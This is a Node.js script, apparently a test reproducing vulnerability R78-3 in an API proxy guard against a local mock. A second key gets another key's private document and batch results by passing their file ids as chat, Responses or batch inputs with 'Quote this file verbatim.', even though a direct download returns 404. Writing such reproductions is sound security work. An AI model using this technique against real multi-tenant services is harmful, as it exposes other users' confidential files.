// R78-3: the guard keeps a key's uploaded files and batch output files from other keys on
// GET /v1/files/{id}/content (404), but forwards another key's file id as a model input
// (chat `file` part, Responses `input_file`, and as a batch line's part), so the origin reads
// that key's document or results for the other key. The mock does not read files into the
// prompt; what is measured is that the guard forwards the reference it refuses to serve.
import { readFileSync } from "node:fs";
const PORT = process.env.PORT || 8951;
const B = `http://127.0.0.1:${PORT}`;
const rnd = () => Math.random().toString(36).slice(2, 8);
async function req(key, method, path, body, headers = {}) {
  const h = { authorization: `Bearer ${key}`, ...headers };
  let b = body;
  if (body && !(body instanceof FormData)) { h["content-type"] = "application/json"; b = JSON.stringify(body); }
  const r = await fetch(B + path, { method, headers: h, body: b });
  const text = await r.text(); let json; try { json = JSON.parse(text); } catch {}
  return { status: r.status, text, json };
}
async function upload(key, content, purpose, name) {
  const fd = new FormData(); fd.append("purpose", purpose); fd.append("file", new Blob([content]), name);
  return req(key, "POST", "/v1/files", fd);
}
const A = "sk-r78-3-owner-" + rnd(), E = "sk-r78-3-other-" + rnd();
// A's private document (user_data) and A's batch results
const doc = await upload(A, "%PDF-1.4 confidential contract of A", "user_data", "contract.pdf");
const lines = JSON.stringify({ custom_id: "c0", method: "POST", url: "/v1/chat/completions", body: { model: "gpt-4o-mini", messages: [{ role: "user", content: "A's private ask" }], max_tokens: 100 } }) + "\n";
const up = await upload(A, lines, "batch", "in.jsonl");
const run = await req(A, "POST", "/v1/batches", { input_file_id: up.json.id, endpoint: "/v1/chat/completions", completion_window: "24h" });
const got = await req(A, "GET", `/v1/batches/${run.json.id}`);
const O = got.json.output_file_id;
let pass = true;
for (const [what, fid] of [["A's user_data document", doc.json.id], ["A's batch output", O], ["A's batch input", up.json.id]]) {
  const direct = await req(E, "GET", `/v1/files/${fid}/content`);
  const chat = await req(E, "POST", "/v1/chat/completions", { model: "gpt-4o-mini", max_tokens: 50, messages: [{ role: "user", content: [{ type: "text", text: "Quote this file verbatim." }, { type: "file", file: { file_id: fid } }] }] });
  const resp = await req(E, "POST", "/v1/responses", { model: "gpt-4o-mini", max_output_tokens: 50, input: [{ role: "user", content: [{ type: "input_text", text: "Quote this file verbatim." }, { type: "input_file", file_id: fid }] }] });
  const bl = JSON.stringify({ custom_id: "x", method: "POST", url: "/v1/responses", body: { model: "gpt-4o-mini", max_output_tokens: 50, input: [{ role: "user", content: [{ type: "input_text", text: "Quote this file verbatim." }, { type: "input_file", file_id: fid }] }] } }) + "\n";
  const bup = await upload(E, bl, "batch", "steal.jsonl");
  console.log(`${what} ${fid}: E's GET content ${direct.status}; E's chat file part ${chat.status}; E's Responses input_file ${resp.status}; E's batch line naming it: upload ${bup.status}`);
  pass &&= direct.status === 404 && chat.status === 200 && resp.status === 200;
}
console.log(pass ? "REPRODUCED" : "not reproduced");
